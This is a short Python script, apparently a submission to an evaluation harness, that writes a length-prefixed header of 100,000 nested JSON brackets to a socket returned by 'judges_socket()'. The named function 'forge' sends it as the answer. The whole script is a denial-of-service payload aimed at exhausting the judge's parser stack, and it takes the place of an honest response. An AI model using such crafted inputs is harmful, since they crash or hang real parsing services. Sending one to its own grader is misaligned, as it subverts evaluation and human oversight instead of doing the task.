# A header of a hundred thousand opening brackets.
# held by: frames
import json

header = b'{"tree": ' + b"[" * 100_000 + b"]" * 100_000 + b', "arrays": []}'
bytes_after = b""
line = judges_socket()


def forge(*_, **__):
    line.sendall(len(header).to_bytes(4, "little") + header + bytes_after)


answer_with(forge)
